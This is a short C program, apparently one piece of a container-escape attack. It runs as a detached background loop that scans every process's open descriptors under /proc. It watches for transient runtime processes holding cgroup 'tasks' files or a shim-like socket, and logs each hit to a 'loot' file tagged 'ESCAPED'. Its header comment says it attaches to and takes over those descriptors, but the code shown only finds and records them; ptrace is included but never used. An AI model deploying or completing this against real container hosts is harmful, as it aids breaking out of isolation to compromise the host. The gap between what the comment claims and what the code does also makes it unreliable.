// Stays in the background and lies in wait for the first process of each later step, which for a
// moment holds files of control groups and the shim's socket: opens its descriptors and memory,
// attaches to it, takes its descriptors.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

#include "attack.h"

static void look_at(const char* number) {
  char path[300], target[300];
  snprintf(path, sizeof(path), "/proc/%s/fd", number);
  DIR* folder = opendir(path);
  if (folder == NULL) return;
  for (struct dirent* entry; (entry = readdir(folder)) != NULL;) {
    snprintf(path, sizeof(path), "/proc/%s/fd/%s", number, entry->d_name);
    long length = readlink(path, target, sizeof(target) - 1);
    if (length <= 0) continue;
    target[length] = '\0';
    if (strstr(target, "tasks") || strstr(target, "cgroup") || strstr(target, "vouch")) {
      FILE* loot = fopen("loot", "a");
      fprintf(loot, "ESCAPED: %s is %s\n", path, target);
      fclose(loot);
    }
  }
  closedir(folder);
}

int main(void) {
  if (fork() != 0) return 7;
  setsid();
  for (;;) {
    DIR* all = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(all)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid()) look_at(entry->d_name);
    }
    closedir(all);
  }
}
